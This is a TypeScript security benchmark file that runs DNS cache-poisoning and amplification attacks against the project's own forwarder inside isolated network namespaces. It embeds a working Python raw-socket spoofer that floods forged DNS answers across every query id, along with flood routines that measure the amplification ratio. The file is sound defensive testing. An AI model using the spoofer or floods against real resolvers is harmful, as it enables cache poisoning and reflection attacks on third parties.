// The DNS attacks of `npm run bench -- hostile` (README "Security"), each against weft's
// real DNS server in network namespaces of its own (root, ip, python3):
//   dns_poison         blind cache poisoning: a slow upstream, and an attacker on a third host
//                      that floods forged answers carrying the upstream's address and port
//                      (raw sockets) at the forwarder. The attacker is told the source port of
//                      every upstream query (as a side channel like SAD DNS would), so only the
//                      query id and the 0x20 case stand between it and the cache.
//   dns_amplification  a client outside the forwarder's own networks asks for a big record
//                      through it, and floods it with the zone's biggest answer: bytes out
//                      over bytes in.
// Each returns AttackResult lines; poisonAttack and amplificationAttack are used by the tests.
import { type ChildProcess } from 'node:child_process';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import { NetLab, type Host, type Teardown } from '../../test/helpers/netns.js';
import type { AttackResult } from './result.js';

/** dist/bench/hostile/dns-peers.js, from this file as source (tap) or as compiled. */
const PEERS = fileURLToPath(
  new URL(
    import.meta.url.includes('/dist/') ? './dns-peers.js' : '../../dist/bench/hostile/dns-peers.js',
    import.meta.url,
  ),
);

/** The forged answer's address: an answer with it is a poisoned cache. */
export const FORGED = '6.6.6.6';

// Raw IPv4+UDP with a forged source address. With IPPROTO_RAW the kernel fills the IP
// checksum and length; the UDP checksum is 0 (none, allowed over IPv4). Commands on stdin:
// "<name> <dst port> <count>": count answers for <name> A -> FORGED, ids counting up from a
// random start (so count >= 65536 covers every id); it prints "done <count> <seconds>".
const SPOOFER = String.raw`
import socket, struct, sys, random, time
src, sport, dst, forged = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
def packet(name, dport):
    qname = b''.join(bytes([len(l)]) + l.encode() for l in name.rstrip('.').split('.')) + b'\0'
    dns = struct.pack('!HHHHHH', 0, 0x8580, 1, 1, 0, 0) + qname + struct.pack('!HH', 1, 1)
    dns += b'\xc0\x0c' + struct.pack('!HHIH', 1, 1, 300, 4) + socket.inet_aton(forged)
    udp = struct.pack('!HHHH', sport, dport, 8 + len(dns), 0)
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 28 + len(dns), 0, 0x4000, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return bytearray(ip + udp + dns)
print('ready', flush=True)
for line in sys.stdin:
    name, dport, count = line.split()
    dport, count = int(dport), int(count)
    p = packet(name, dport)
    first = random.randrange(65536)
    t0 = time.monotonic()
    sent = 0
    for i in range(count):
        qid = (first + i) & 0xffff
        p[28] = qid >> 8
        p[29] = qid & 0xff
        try:
            s.sendto(p, (dst, 0))
            sent += 1
        except OSError:
            pass
    print('done', sent, round(time.monotonic() - t0, 3), flush=True)
`;

/** Lines of a child's stdout as parsed JSON (or raw text), with a wait for the next match. */
class Lines {
  private readonly queue: unknown[] = [];
  private readonly waiters: {
    pred: (l: unknown) => boolean;
    resolve: (l: unknown) => void;
    reject: (e: Error) => void;
  }[] = [];
  private stderr = '';
  listener: ((l: unknown) => void) | undefined;

  constructor(
    readonly proc: ChildProcess,
    readonly what: string,
  ) {
    proc.stderr?.on('data', (d) => (this.stderr = (this.stderr + d).slice(-2000)));
    createInterface({ input: proc.stdout! }).on('line', (text) => {
      let l: unknown = text;
      try {
        l = JSON.parse(text);
      } catch {
        // a plain line
      }
      this.listener?.(l);
      const i = this.waiters.findIndex((w) => w.pred(l));
      if (i >= 0) this.waiters.splice(i, 1)[0].resolve(l);
      else this.queue.push(l);
    });
    proc.on('exit', (code) => {
      for (const w of this.waiters.splice(0)) w.reject(new Error(`${this.what} exited (${code}): ${this.stderr}`));
    });
  }

  next<T>(pred: (l: unknown) => boolean, timeoutMs = 10_000): Promise<T> {
    const i = this.queue.findIndex(pred);
    if (i >= 0) return Promise.resolve(this.queue.splice(i, 1)[0] as T);
    return new Promise<T>((resolve, reject) => {
      const w = { pred, resolve: resolve as (l: unknown) => void, reject };
      const timer = setTimeout(() => {
        this.waiters.splice(this.waiters.indexOf(w), 1);
        reject(new Error(`${this.what}: nothing within ${timeoutMs} ms: ${this.stderr}`));
      }, timeoutMs);
      w.resolve = (l) => {
        clearTimeout(timer);
        (resolve as (l: unknown) => void)(l);
      };
      this.waiters.push(w);
    });
  }

  send(o: unknown): void {
    this.proc.stdin!.write((typeof o === 'string' ? o : JSON.stringify(o)) + '\n');
  }
}

const has = (k: string) => (l: unknown) => typeof l === 'object' && l !== null && k in l;

interface Peers {
  lab: NetLab;
  fwdHost: Host;
  upHost: Host;
  other: Host;
  forwarder: Lines;
  upstream: Lines;
  ports: number[];
}

/** A lab of three hosts: the forwarder (.2, listening on loopback and on its address), its upstream (.3), and a third (.4). */
async function peers(
  t: Teardown | undefined,
  o: { delayMs: number; timeoutMs: number; bigService?: number; server?: object; tag: string },
): Promise<Peers> {
  const lab = await NetLab.create(t, { subnet: '10.77.9', tag: o.tag });
  try {
    const [fwdHost, upHost, other] = [await lab.addHost(2), await lab.addHost(3), await lab.addHost(4)];
    const upstream = new Lines(
      lab.spawn(upHost.ns, [
        process.execPath,
        PEERS,
        'upstream',
        JSON.stringify({ addr: upHost.addr, port: 53, delayMs: o.delayMs, bigTxt: 1000 }),
      ]),
      'upstream',
    );
    await upstream.next(has('ready'));
    const forwarder = new Lines(
      lab.spawn(fwdHost.ns, [
        process.execPath,
        PEERS,
        'forwarder',
        JSON.stringify({
          listen: [
            { addr: '127.0.0.1', port: 0 },
            { addr: fwdHost.addr, port: 53 },
          ],
          upstream: `${upHost.addr}:53`,
          timeoutMs: o.timeoutMs,
          bigService: o.bigService ?? 0,
          server: o.server,
        }),
      ]),
      'forwarder',
    );
    const ready = await forwarder.next<{ ports: number[] }>(has('ready'));
    return { lab, fwdHost, upHost, other, forwarder, upstream, ports: ready.ports };
  } catch (err) {
    await lab.destroy();
    throw err;
  }
}

export interface PoisonResult {
  rounds: number;
  spoofsSent: number;
  poisonedRounds: number;
  firstPoisonedRound: number | undefined;
  /** The forwarder's counters at the end (spoofs it dropped, by reason). */
  stats: Record<string, unknown>;
  seconds: number;
}

/**
 * Blind poisoning: round after round the forwarder's loopback client asks for a fresh name
 * (`r<N>-<run>.poison-target.example`); as soon as the upstream sees the query the attacker
 * learns its source port and floods `spoofsPerRound` forged answers at it while the upstream
 * waits `delayMs`. A round is poisoned when the client's answer is FORGED.
 */
export async function poisonAttack(
  t: Teardown | undefined,
  o: { rounds: number; spoofsPerRound: number; delayMs?: number; stopAtFirst?: boolean; tag?: string },
): Promise<PoisonResult> {
  const delayMs = o.delayMs ?? 300;
  const p = await peers(t, { delayMs, timeoutMs: delayMs + 2000, tag: o.tag ?? 'p' });
  const t0 = performance.now();
  try {
    const spoofer = new Lines(
      p.lab.spawn(p.other.ns, ['python3', '-c', SPOOFER, p.upHost.addr, '53', p.fwdHost.addr, FORGED]),
      'spoofer',
    );
    await spoofer.next((l) => l === 'ready');
    const run = Math.random().toString(36).slice(2, 8);
    let spoofsSent = 0;
    let poisonedRounds = 0;
    let firstPoisonedRound: number | undefined;
    let round = 0;
    for (round = 1; round <= o.rounds; round++) {
      const name = `r${round}-${run}.poison-target.example`;
      // The side channel: the attacker hears the query's source port as soon as the upstream does.
      p.upstream.listener = (l) => {
        const q = l as { query?: string; port?: number };
        if (q.query === name) spoofer.send(`${name} ${q.port} ${o.spoofsPerRound}`);
      };
      const answer = p.forwarder.next<{ addrs: string[]; rcode: string }>(has('addrs'), delayMs + 10_000);
      p.forwarder.send({ op: 'ask', name });
      const done = await spoofer.next<string>((l) => typeof l === 'string' && l.startsWith('done'), 60_000);
      spoofsSent += Number(done.split(' ')[1]);
      if (process.env.DNS_ATTACK_DEBUG) console.error(`round ${round}: ${done}`);
      const a = await answer;
      if (a.addrs.includes(FORGED)) {
        poisonedRounds++;
        firstPoisonedRound ??= round;
        if (o.stopAtFirst) break;
      }
    }
    p.upstream.listener = undefined;
    const stats = (
      await (p.forwarder.send({ op: 'stats' }), p.forwarder.next<{ stats: Record<string, unknown> }>(has('stats')))
    ).stats;
    return {
      rounds: Math.min(round, o.rounds),
      spoofsSent,
      poisonedRounds,
      firstPoisonedRound,
      stats,
      seconds: (performance.now() - t0) / 1000,
    };
  } finally {
    await p.lab.destroy();
  }
}

export interface Flood {
  sent: number;
  bytesIn: number;
  bytesOut: number;
  responses: number;
  full: number;
  truncated: number;
  refused: number;
}

export interface AmplificationResult {
  /** A client outside the forwarder's networks asks once: an external name, a big external record, weft's own names. */
  external: { rcode: string };
  bigExternal: { rcode: string; bytes: number };
  zoneName: { rcode: string; answers: number };
  bigZone: { rcode: string; answers: number; tc: boolean; bytes: number };
  /** The same client floods: the big external record, then the zone's biggest answer. */
  floodExternal: Flood;
  floodZone: Flood;
  /** A flood of a small zone answer (what the rate limit alone bounds). */
  floodSmall: Flood;
  /** bytes out / bytes in of each flood, and the worse of the two. */
  ratioExternal: number;
  ratioZone: number;
  amplification: number;
  /** The forwarder's own loopback client still recurses. */
  loopback: { rcode: string; addrs: string[] };
  stats: Record<string, unknown>;
}

/**
 * Reflection and amplification: a client on another host (outside the forwarder's recursion
 * networks) asks for an external TXT of 1,000 bytes and for weft's biggest name (a service
 * with `bigService` endpoints), once each and then `count` times as fast as it can.
 */
export async function amplificationAttack(
  t: Teardown | undefined,
  o: { count: number; bigService?: number; tag?: string; server?: object },
): Promise<AmplificationResult> {
  const p = await peers(t, {
    delayMs: 0,
    timeoutMs: 1500,
    bigService: o.bigService ?? 60,
    tag: o.tag ?? 'a',
    server: o.server,
  });
  try {
    const client = new Lines(p.lab.spawn(p.other.ns, [process.execPath, PEERS, 'client']), 'client');
    await client.next(has('ready'));
    const at = { server: p.fwdHost.addr, port: 53 };
    const call = <T>(cmd: object): Promise<T> => {
      const r = client.next<T>(() => true, 60_000);
      client.send({ ...at, ...cmd });
      return r;
    };
    const external = await call<{ rcode: string }>({ op: 'ask', name: 'www.outside.example', type: 'A' });
    const bigExternal = await call<{ rcode: string; bytes: number }>({
      op: 'ask',
      name: 'big.amp.example',
      type: 'TXT',
    });
    const zoneName = await call<{ rcode: string; answers: number }>({
      op: 'ask',
      name: 'n1.node.weft.internal',
      type: 'A',
    });
    const bigZone = await call<{ rcode: string; answers: number; tc: boolean; bytes: number }>({
      op: 'ask',
      name: 'big.svc.weft.internal',
      type: 'A',
    });
    const floodExternal = await call<Flood>({ op: 'flood', name: 'big.amp.example', type: 'TXT', count: o.count });
    const floodZone = await call<Flood>({ op: 'flood', name: 'big.svc.weft.internal', type: 'A', count: o.count });
    const floodSmall = await call<Flood>({ op: 'flood', name: 'n1.node.weft.internal', type: 'A', count: o.count });
    const loopbackAnswer = p.forwarder.next<{ rcode: string; addrs: string[] }>(has('addrs'));
    p.forwarder.send({ op: 'ask', name: 'www.outside.example' });
    const loopback = await loopbackAnswer;
    const stats = (
      await (p.forwarder.send({ op: 'stats' }), p.forwarder.next<{ stats: Record<string, unknown> }>(has('stats')))
    ).stats;
    const ratio = (f: Flood) => (f.bytesIn ? f.bytesOut / f.bytesIn : 0);
    const ratioExternal = ratio(floodExternal);
    const ratioZone = ratio(floodZone);
    return {
      external,
      bigExternal,
      zoneName,
      bigZone,
      floodExternal,
      floodZone,
      floodSmall,
      ratioExternal,
      ratioZone,
      amplification: Math.max(ratioExternal, ratioZone),
      loopback,
      stats,
    };
  } finally {
    await p.lab.destroy();
  }
}

export async function runDnsAttacks(opts: { smoke: boolean }): Promise<AttackResult[]> {
  const out: AttackResult[] = [];
  const want = opts.smoke ? 2_000 : 100_000;
  const perRound = opts.smoke ? 1_000 : 40_000;
  const poison = await poisonAttack(undefined, {
    rounds: Math.ceil(want / perRound),
    spoofsPerRound: perRound,
    delayMs: opts.smoke ? 300 : 800,
    tag: 'bp',
  });
  // Forged answers that reached the query's own socket (right address, port) and were dropped there.
  const spoofs = (poison.stats.upstreamSpoofs ?? {}) as Record<string, number>;
  const dropped = Object.values(spoofs).reduce((a, b) => a + b, 0);
  out.push({
    name: 'dns_poison',
    held: poison.poisonedRounds === 0,
    forged_accepted: poison.poisonedRounds,
    detail: `${poison.spoofsSent} forged answers to the known source port over ${poison.rounds} queries (${dropped} reached the query's socket and were dropped: ${JSON.stringify(spoofs)}); ${poison.poisonedRounds} poisoned`,
    figures: {
      poison_success: poison.poisonedRounds,
      poison_spoofs_sent: poison.spoofsSent,
      poison_spoofs_dropped: dropped,
      poison_rounds: poison.rounds,
    },
  });
  const amp = await amplificationAttack(undefined, { count: opts.smoke ? 2_000 : 20_000, tag: 'ba' });
  out.push({
    name: 'dns_amplification',
    held: amp.amplification <= 3 && amp.external.rcode === 'REFUSED',
    detail: `client outside the allowed networks: external name ${amp.external.rcode}; flood of a 1,000-byte TXT ${amp.ratioExternal.toFixed(2)}x, of the zone's biggest answer ${amp.ratioZone.toFixed(2)}x (${amp.floodZone.full} full, ${amp.floodZone.truncated} truncated of ${amp.floodZone.sent})`,
    figures: {
      dns_amplification: round2(amp.amplification),
      dns_amplification_external: round2(amp.ratioExternal),
      dns_amplification_zone: round2(amp.ratioZone),
    },
  });
  return out;
}

const round2 = (x: number): number => Math.round(x * 100) / 100;

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const results = await runDnsAttacks({ smoke: process.argv.includes('--smoke') });
  for (const r of results) console.log(`${r.held ? 'held ' : 'BROKE'}  ${r.name}: ${r.detail ?? ''}`);
  console.log(JSON.stringify(Object.assign({}, ...results.map((r) => r.figures ?? {}))));
}
